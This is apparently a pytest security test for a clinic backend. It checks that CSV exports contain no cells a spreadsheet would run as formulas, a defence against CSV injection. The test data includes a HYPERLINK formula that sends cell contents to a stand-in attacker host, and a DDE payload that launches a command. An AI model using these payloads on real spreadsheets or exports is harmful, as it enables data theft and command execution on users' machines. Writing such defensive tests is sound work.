"""What leaves as a table runs nothing in the program that opens it."""

import csv
import io
import re
from typing import Any

import pytest

from backend.identity import ROLES
from backend.ids import new_id
from tests.practice import Practice
from tests.security.surface import document, plain
from tests.security.test_table import address, give_roles

# https://owasp.org/www-community/attacks/CSV_Injection, with the wide forms that Excel takes for the same.
BEGINS = tuple("=+-@\t\r\n|％＝＋－＠")
NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")
# The addresses that answer with text/csv. One that is not here fails the test, and so does one that is gone.
OFFERED: set[str] = {"/access/export"}
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def cells_that_would_run(text: str) -> list[str]:
    """The cells that a spreadsheet takes for formulas."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    cells = [cell for row in rows for cell in row]
    return [cell for cell in cells if cell.lstrip(" \u00a0\u200b").startswith(BEGINS) and not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", '=cmd|"/c calc"!A0']
)
def test_a_formula_is_found(cell: str) -> None:
    quoted = cell.replace('"', '""')
    assert cells_that_would_run(f'name,when\r\n"{quoted}",2026-11-23\r\n') == [cell]


def test_what_is_no_formula_is_left_in_peace() -> None:
    assert cells_that_would_run('name,when\r\n\'=1+1,2026-11-23\r\nAna-Maria,-5\r\n"O’Hara, B.",+1.5\r\n') == []


def test_no_table_that_leaves_runs_anything(practice: Practice) -> None:
    for role in ROLES:
        practice.act("maria", "devices.enrol", {"device_id": new_id(), "name": f"{FORMULA} {role}", "purpose": "desk"})
    practice.act("maria", "patients.import_patient", {**person(), "patient_id": practice.patients["alma"]})
    give_roles(practice, "maria", set(ROLES))
    found: dict[str, str] = {}
    for path, way in document(practice.office.answering.manifest)["paths"].items():
        for method in way:
            # A session that one of them ended is begun anew.
            browser = practice.browser("maria")
            sent = {"accept": "text/csv, text/html", "x-daysheet": "export"}
            where = address(practice, plain(path)) + ("?format=csv&_format=csv" if method == "get" else "")
            answer: Any = browser._send(method.upper(), where, sent)
            assert answer.status_code < 500, path
            if "csv" in answer.headers.get("content-type", "") + answer.headers.get("content-disposition", ""):
                found[path] = answer.text
    assert set(found) == OFFERED, "Write the address into OFFERED, or take it from there."
    assert {path: cells for path, text in found.items() if (cells := cells_that_would_run(text))} == {}


def person() -> dict[str, Any]:
    return {"given": FORMULA, "family": FORMULA, "birth_date": "1957-04-12", "source": "alma", "line": FORMULA}
